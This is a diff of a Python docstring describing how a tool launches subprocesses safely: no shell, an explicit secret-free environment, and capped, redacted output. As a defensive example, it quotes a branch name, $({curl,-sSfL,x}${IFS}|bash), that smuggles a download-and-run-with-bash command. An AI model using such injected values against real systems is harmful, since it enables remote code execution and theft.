@@ -1,13 +1,14 @@
 """The one place autorecover starts a process (the shape of pre-commit's `util.py`).
 
-Every command is an argv list run with ``shell=False`` (security.md S3): a branch name such as
-``$({curl,-sSfL,x}${IFS}|bash)`` is a valid git ref (measured, A10.1) and must stay one
-argument. The environment is always passed explicitly, never inherited: git gets its token
-through variables its adapter adds, and the formatters get :func:`minimal_env`, which holds no
-token or secret at all (S2, TM05). Standard input is closed unless the caller gives input, so a
-tool that would prompt fails instead of hanging. Output is captured with a cap, so a tool that
-prints without end cannot exhaust memory (R8), and errors carry the command, return code and
-redacted, capped output (TM17: a git error must not carry a credential into an issue).
+Every command is an argv list run with ``shell=False`` (docs/security.md#s3): a branch name such as
+``$({curl,-sSfL,x}${IFS}|bash)`` is a valid git ref (measured, docs/security.md#a10-1) and must stay
+one argument. The environment is always passed explicitly, never inherited: git gets its token
+through variables its adapter adds, and the formatters get :func:`minimal_env`, which holds no token
+or secret at all (docs/security.md#s2, #tm05). Standard input is closed unless the caller gives
+input, so a tool that would prompt fails instead of hanging. Output is captured with a cap, so a
+tool that prints without end cannot exhaust memory (docs/security.md#r8), and errors carry the
+command, return code and redacted, capped output (docs/security.md#tm17: a git error must not carry
+a credential into an issue).
 """
 
 from __future__ import annotations
